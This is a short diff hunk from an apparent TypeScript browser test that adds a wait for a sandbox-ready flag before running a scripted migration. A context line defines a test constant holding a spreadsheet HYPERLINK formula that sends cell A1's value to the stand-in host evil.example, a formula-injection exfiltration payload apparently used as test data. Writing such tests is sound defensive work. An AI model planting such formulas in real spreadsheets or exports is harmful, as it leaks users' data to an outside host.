@@ -12,6 +12,9 @@ export const FORMULA_NAME = '=HYPERLINK("http://evil.example/?q="&A1,"Click me")
  * quotes and an accent.
  */
 export async function scriptedMigration(page: Page) {
+	await page.waitForFunction(
+		() => (window as unknown as { __sandbox?: { ready: boolean } }).__sandbox?.ready
+	);
 	return page.evaluate(async (formula) => {
 		const w = window as unknown as {
 			__sandbox: {
